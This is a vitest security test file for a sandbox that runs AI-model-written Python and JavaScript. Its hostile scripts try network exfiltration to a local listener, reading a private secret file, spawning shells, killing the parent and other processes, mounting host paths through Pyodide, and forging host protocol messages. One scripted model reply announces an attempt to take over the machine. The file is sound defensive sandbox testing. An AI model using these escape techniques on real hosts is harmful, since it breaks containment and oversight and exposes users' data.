/**
 * The wall around the Node sandbox, attacked for real: hostile JavaScript tries the network (a
 * listener on 127.0.0.1 records every hit), signals (a bystander process, the test process, the
 * CLI), files outside Pyodide's, child processes and the protocol channel. Nothing may get
 * through, and the run goes on.
 */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { chmodSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nodeBundles } from '../../src/python/node-bundle.ts';
import { createNodeSandboxHost, permissionFlags } from '../../src/python/node-sandbox.ts';
import { planWalls } from '../../src/python/node-wall.ts';
import type { SandboxHost } from '../../src/python/host.ts';
import { startFakeOpenAIServer, type FakeOpenAIServer } from '../helpers/fake-openai-server.ts';
import { runCli } from '../helpers/run-cli.ts';

const REPO = join(import.meta.dirname, '../..');

interface Listener {
  port: number;
  udpPort: number;
  unixPath: string;
  hits: string[];
  close(): Promise<void>;
}

async function startListener(dir: string): Promise<Listener> {
  const hits: string[] = [];
  const tcp: Server = createServer((s) => {
    hits.push('tcp');
    s.on('data', (d: Buffer) => hits.push(`tcp-data:${d.toString().slice(0, 40)}`));
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 200);
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  const unixPath = join(dir, 'listener.sock');
  const unix: Server = createServer((s) => {
    hits.push('unix');
    s.destroy();
  });
  await new Promise<void>((r) => unix.listen(unixPath, r));
  const udp: UdpSocket = createSocket('udp4');
  udp.on('message', () => hits.push('udp'));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  const port = (tcp.address() as { port: number }).port;
  return {
    port,
    udpPort: udp.address().port,
    unixPath,
    hits,
    close: async () => {
      udp.close();
      await new Promise((r) => tcp.close(r));
      await new Promise((r) => unix.close(r));
    },
  };
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

let listener: Listener;
let bystander: ChildProcess;
let secretDir: string;
let secretFile: string;
let scratch: string;
let forbiddenWrite: string;
const SECRET = `secret-${process.pid}-${Date.now()}`;

beforeAll(async () => {
  // The secret lives where only this user may look, like a user's own files.
  secretDir = mkdtempSync(join(tmpdir(), 'wall-secret-'));
  secretFile = join(secretDir, 'secret.txt');
  writeFileSync(secretFile, SECRET, { mode: 0o600 });
  // The scratch directory is readable by anyone: the hostile script lives here.
  scratch = mkdtempSync(join(tmpdir(), 'wall-scratch-'));
  chmodSync(scratch, 0o777);
  forbiddenWrite = join(scratch, 'written-by-sandbox');
  // Its Unix socket sits next to the secret, where only this user may go.
  listener = await startListener(secretDir);
  bystander = spawn('sleep', ['600'], { stdio: 'ignore' });
});

afterAll(async () => {
  bystander.kill('SIGKILL');
  await listener.close();
  rmSync(secretDir, { recursive: true, force: true });
  rmSync(scratch, { recursive: true, force: true });
});

/** A script with all of Node at hand (no realm lockdown), as if every JS-level wall had fallen. */
function hostileScript(): string {
  return `
import fs from 'node:fs';
const [port, udpPort, unixPath, bystander, parent, secret, target] = process.argv.slice(2);
const out = {};
const within = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r('timeout'), 1500))]);
const attempt = async (name, fn) => {
  try { out[name] = 'allowed: ' + String(await within(Promise.resolve().then(fn))).slice(0, 60); }
  catch (e) { out[name] = 'denied: ' + String(e?.code ?? e?.message ?? e).slice(0, 60); }
};
const get = (m) => process.getBuiltinModule(m);
const connected = (s) => new Promise((res, rej) => { s.on('connect', () => { s.write('hello'); res('connected'); }); s.on('error', rej); });
await attempt('fetch', () => fetch('http://127.0.0.1:' + port + '/fetch').then((r) => r.status));
await attempt('net', () => connected(get('net').connect(Number(port), '127.0.0.1')));
await attempt('http', () => new Promise((res, rej) => get('http').get('http://127.0.0.1:' + port + '/http', res).on('error', rej)));
await attempt('dgram', () => new Promise((res, rej) => { const u = get('dgram').createSocket('udp4'); u.send('x', Number(udpPort), '127.0.0.1', (e) => (e ? rej(e) : res('sent'))); }));
if (typeof WebSocket === 'function') await attempt('websocket', () => new Promise((res, rej) => { const w = new WebSocket('ws://127.0.0.1:' + port); w.onopen = res; w.onerror = () => rej(new Error('ws error')); }));
await attempt('unix', () => connected(get('net').connect({ path: unixPath })));
await attempt('killBystander', () => process.kill(Number(bystander), 'SIGKILL'));
await attempt('killParent', () => process.kill(Number(parent), 'SIGKILL'));
await attempt('readSecret', () => fs.readFileSync(secret, 'utf8'));
await attempt('write', () => fs.writeFileSync(target, 'x'));
await attempt('spawn', () => get('child_process').execFileSync('/bin/sh', ['-c', 'touch ' + target]));
await attempt('binding', () => process.binding('tcp_wrap'));
await attempt('dlopen', () => process.dlopen({ exports: {} }, '/nonexistent.node'));
await attempt('inspector', () => get('inspector').open(0));
process.stdout.write(JSON.stringify(out) + '\\n');
// Last, the blunt ones: every process this one may signal. Only inside its own PID namespace,
// where they cannot reach the machine even if this test is wrong.
if (process.pid === 1) {
  try { process.kill(-1, 'SIGKILL'); } catch {}
  try { process.kill(0, 'SIGKILL'); } catch {}
}
process.exit(0);
`;
}

describe('the process walls (any JavaScript in the sandbox child)', () => {
  const walls = planWalls([]).walls;
  const active = (id: string): boolean => walls.some((w) => w.id === id && w.state === 'active');

  it.runIf(active('network') && active('signals'))(
    'keep sockets, signals, files and processes out of reach',
    async () => {
      const script = join(scratch, 'hostile.mjs');
      writeFileSync(script, hostileScript());
      chmodSync(script, 0o644);
      const plan = planWalls([scratch]);
      const child = spawn(
        plan.command,
        [
          ...plan.prefix,
          ...permissionFlags([scratch]),
          script,
          String(listener.port),
          String(listener.udpPort),
          listener.unixPath,
          String(bystander.pid),
          String(process.pid),
          secretFile,
          forbiddenWrite,
        ],
        { stdio: ['ignore', 'pipe', 'pipe'], detached: true },
      );
      let stdout = '';
      child.stdout?.on('data', (d: Buffer) => (stdout += d.toString()));
      const guard = setTimeout(() => child.kill('SIGKILL'), 30_000);
      await new Promise((r) => child.on('exit', r));
      clearTimeout(guard);
      const out = JSON.parse(stdout.trim().split('\n')[0] ?? '{}') as Record<string, string>;
      // Every attempt ran and was refused.
      expect(Object.keys(out)).toEqual(
        expect.arrayContaining(['fetch', 'net', 'http', 'dgram', 'killBystander', 'readSecret']),
      );
      const allowed = Object.entries(out).filter(([, v]) => v.startsWith('allowed'));
      // Unix sockets of the filesystem are out of reach only with a root of its own or as
      // another user.
      const expectedOpen = active('files') || active('user') ? [] : ['unix'];
      expect(allowed.map(([k]) => k).filter((k) => !expectedOpen.includes(k))).toEqual([]);
      await new Promise((r) => setTimeout(r, 300));
      expect(listener.hits.filter((h) => h !== 'unix' || !expectedOpen.includes('unix'))).toEqual(
        [],
      );
      expect(alive(bystander.pid ?? -1)).toBe(true);
      expect(existsSync(forbiddenWrite)).toBe(false);
      expect(stdout).not.toContain(SECRET);
    },
    60_000,
  );
});

/** Python with the policy off, reaching JavaScript through `js` and `pyodide_js`. */
function hostilePython(): string {
  const p = listener.port;
  return `
import js, pyodide_js
from pyodide.ffi import to_js
tried = {}
def attempt(name, fn):
    try:
        tried[name] = 'allowed: ' + str(fn())[:60]
    except BaseException as e:
        tried[name] = 'denied: ' + type(e).__name__
attempt('fetch', lambda: js.fetch('http://127.0.0.1:${p}/fetch'))
attempt('run_js', lambda: __import__('pyodide.code', fromlist=['run_js']).run_js("fetch('http://127.0.0.1:${p}/runjs')"))
attempt('eval', lambda: js.eval("1"))
attempt('Function', lambda: js.Function.new("return 1")())
attempt('module', lambda: js.process.getBuiltinModule('net').connect(${p}, '127.0.0.1'))
attempt('binding', lambda: js.process.binding('tcp_wrap'))
attempt('killBystander', lambda: js.process.kill(${bystander.pid ?? -1}, 'SIGKILL'))
attempt('killParent', lambda: js.process.kill(js.process.ppid, 'SIGKILL'))
attempt('killGroup', lambda: js.process.kill(0, 'SIGKILL'))
attempt('dlopen', lambda: js.process.dlopen(to_js({}), '/nonexistent.node'))
attempt('loadPackage', lambda: pyodide_js.loadPackage('http://127.0.0.1:${p}/evil-0.1-py3-none-any.whl'))
def read_secret():
    fs = pyodide_js.FS
    fs.mkdirTree('/host-secret')
    fs.mount(fs.filesystems.NODEFS, to_js({'root': ${JSON.stringify(secretDir)}}, dict_converter=js.Object.fromEntries), '/host-secret')
    return open('/host-secret/secret.txt').read()
attempt('readSecret', read_secret)
def write_channel():
    fs = pyodide_js.FS
    fs.mkdirTree('/host-fd')
    fs.mount(fs.filesystems.NODEFS, to_js({'root': '/proc/self/fd'}, dict_converter=js.Object.fromEntries), '/host-fd')
    with open('/host-fd/3', 'w') as f:
        f.write('{"type":"ready","pythonVersion":"forged","startMs":0}\\n')
    return 'written'
attempt('channel', write_channel)
def socket_connect():
    import socket
    s = socket.create_connection(('127.0.0.1', ${p}), timeout=1)
    s.sendall(b'hello')
    return 'connected'
attempt('pySocket', socket_connect)
def subprocess_run():
    import subprocess
    return subprocess.run(['touch', ${JSON.stringify(forbiddenWrite)}])
attempt('subprocess', subprocess_run)
print(tried)
tried
`;
}

describe('hostile JavaScript from Python with the policy off (real Pyodide sandbox)', () => {
  let host: SandboxHost;
  const dropped: string[] = [];

  beforeAll(async () => {
    host = createNodeSandboxHost({
      pythonPolicy: 'off',
      timeoutMs: 20_000,
      onDroppedMessage: (reason) => dropped.push(reason),
    });
    await host.start();
  }, 120_000);

  afterAll(async () => {
    await host?.dispose();
  });

  it('reaches nothing, and the run goes on', async () => {
    const before = listener.hits.length;
    const r = await host.execute(hostilePython());
    expect(r.status).toBe('ok');
    const tried = r.logs;
    // loadPackage answers with a promise: whether it got out is for the listener to say.
    for (const name of [
      'fetch',
      'run_js',
      'eval',
      'module',
      'killBystander',
      'killParent',
      'killGroup',
      'readSecret',
      'channel',
      'pySocket',
      'subprocess',
    ])
      expect(tried).toMatch(new RegExp(`'${name}': 'denied`));
    expect(tried).not.toContain(SECRET);
    // Whatever ran asynchronously (a fetch promise) has had time to land.
    await new Promise((r) => setTimeout(r, 500));
    expect(listener.hits.slice(before)).toEqual([]);
    expect(alive(bystander.pid ?? -1)).toBe(true);
    expect(existsSync(forbiddenWrite)).toBe(false);
    // The next step works, in the same interpreter.
    const next = await host.execute('x = 21 * 2\nx');
    expect(next.output).toBe('42');
    expect(next.stateLost).toBe(false);
  }, 60_000);

  it('ending its own process is a failed step, and the next step runs in a new interpreter', async () => {
    const r = await host.execute('import js\njs.process.exit(137)');
    expect(r.status).toBe('error');
    expect(r.stateLost).toBe(true);
    expect(r.error?.message).toMatch(/restarted/);
    expect((await host.execute('6 * 7')).output).toBe('42');
    expect(alive(bystander.pid ?? -1)).toBe(true);
  }, 120_000);
});

describe('restarts and disposal', () => {
  /** Processes whose command line names `marker` (the sandbox's launcher and the sandbox). */
  const processes = (marker: string): number =>
    execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' })
      .split('\n')
      .filter((l) => l.includes(marker)).length;

  it.runIf(process.platform === 'linux')(
    'leave no sandbox process behind, even one that runs as another user',
    async () => {
      const marker = mkdtempSync(join(tmpdir(), 'wall-marker-'));
      chmodSync(marker, 0o755);
      const host = createNodeSandboxHost({ extraReadPaths: [marker], interruptGraceMs: 300 });
      try {
        await host.start();
        const running = processes(marker);
        expect(running).toBeGreaterThan(0);
        const hung = await host.execute('import time\ntime.sleep(100)', { timeoutMs: 300 });
        expect(hung.stateLost).toBe(true);
        expect((await host.execute('1 + 1')).output).toBe('2');
        // The killed interpreter is gone: only the new one runs.
        expect(processes(marker)).toBe(running);
      } finally {
        await host.dispose();
        await new Promise((r) => setTimeout(r, 300));
        expect(processes(marker)).toBe(0);
        rmSync(marker, { recursive: true, force: true });
      }
    },
    120_000,
  );
});

describe('forged protocol messages (walls off, so the realm can reach the channel)', () => {
  it('are dropped and logged, never acted on, and the host goes on', async () => {
    const dropped: string[] = [];
    // Without the lockdown and with eval allowed, model code holds the worker's parentPort and
    // the child's fd 3: the host's check is the only thing left.
    const host = createNodeSandboxHost({
      pythonPolicy: 'off',
      wall: 'none',
      onDroppedMessage: (reason) => dropped.push(reason),
    });
    try {
      await host.start();
      const r = await host.execute(`
from pyodide.code import run_js
run_js("""
const { parentPort } = process.getBuiltinModule('worker_threads');
const fs = process.getBuiltinModule('fs');
parentPort.postMessage({ type: 'result', id: 1, result: 'not a result' });
parentPort.postMessage({ type: 'tool_call', callId: 7, name: 'web_search', args: [1, 2] });
parentPort.postMessage({ type: 'ready', pythonVersion: 'forged', startMs: 0 });
parentPort.postMessage({ type: 'exec_on_host', code: 'process.exit(137)' });
fs.writeSync(3, 'this is not JSON\\\\n');
fs.writeSync(3, Buffer.from([0, 0, 0, 5, 1, 2, 3, 4, 5, 10]));
fs.writeSync(3, '{"type":"start_failed","error":{"code":"internal","message":"forged"}}\\\\n');
""")
'still here'
`);
      expect(r.status).toBe('ok');
      expect(r.output).toBe('still here');
      expect(dropped.length).toBeGreaterThanOrEqual(6);
      expect(dropped.join('\n')).toMatch(/not JSON/);
      expect(dropped.join('\n')).toMatch(/unknown message type "exec_on_host"/);
      expect(dropped.join('\n')).toMatch(/second 'ready'/);
      expect(host.droppedMessages).toBe(dropped.length);
      expect((await host.execute('2 + 2')).output).toBe('4');
    } finally {
      await host.dispose();
    }
  }, 120_000);
});

describe('playground ask with hostile model code (policy off, real CLI process)', () => {
  let server: FakeOpenAIServer;

  afterAll(async () => {
    await server?.close();
  });

  it('keeps the CLI alive and prints the whole run record', async () => {
    const attack = [
      'Thought: I will try to take over the machine.',
      'Code:',
      '```py',
      'import js',
      'for f in (lambda: js.process.kill(js.process.ppid, "SIGKILL"), lambda: js.process.kill(0, "SIGKILL"), lambda: js.fetch("http://127.0.0.1:' +
        String(listener.port) +
        '/ask")):',
      '    try:',
      '        f()',
      '    except Exception as e:',
      '        print(e)',
      '```',
    ].join('\n');
    const finish = 'Thought: That failed; answer.\nCode:\n```py\nfinal_answer("42")\n```';
    server = await startFakeOpenAIServer({ script: [attack, finish] });
    const before = listener.hits.length;
    const cli = spawn(
      process.execPath,
      [
        join(REPO, 'bin/playground.js'),
        'ask',
        'What is six times seven?',
        '--base-url',
        server.baseUrl,
        '--model',
        'test',
        '--json',
      ],
      {
        cwd: REPO,
        env: { ...process.env, PLAYGROUND_PYTHON_POLICY: 'off', PLAYGROUND_INDEX_DIR: '' },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let stdout = '';
    let stderr = '';
    cli.stdout?.on('data', (d: Buffer) => (stdout += d.toString()));
    cli.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
    const code = await new Promise<number | null>((r) => cli.on('exit', (c) => r(c)));
    expect(code, stderr).toBe(0);
    expect(stderr).toContain('the Python policy is off');
    const record = JSON.parse(stdout) as { answer?: string; steps?: { observation?: string }[] };
    expect(JSON.stringify(record)).toContain('42');
    expect(JSON.stringify(record)).toContain('not available in the Python sandbox');
    expect(listener.hits.slice(before)).toEqual([]);
  }, 120_000);
});

describe('playground doctor', () => {
  it('reports every wall on a line of its own, and what a real sandbox measured', async () => {
    const r = await runCli(['doctor']);
    expect(r.code, r.stderr).toBe(0);
    const walls = planWalls([]).walls;
    for (const w of walls) {
      const line = r.stdout.split('\n').find((l) => l.includes(` ${w.id}: `));
      expect(line, w.id).toBeDefined();
      const mark = w.state === 'active' ? 'ok' : w.state === 'n/a' ? 'n/a' : 'MISSING';
      expect(line?.trim().startsWith(mark), line).toBe(true);
      if (w.state === 'missing') expect(line).toContain('->');
    }
    expect(r.stdout).toMatch(/Measured inside a sandbox: .*fsWrite=ERR_ACCESS_DENIED/);
    if (walls.some((w) => w.id === 'network' && w.state === 'active'))
      expect(r.stdout).toContain('network=ENETUNREACH');
  }, 120_000);
});

// The bundle must exist before any test spawns a sandbox in parallel.
beforeAll(async () => {
  await nodeBundles();
}, 120_000);
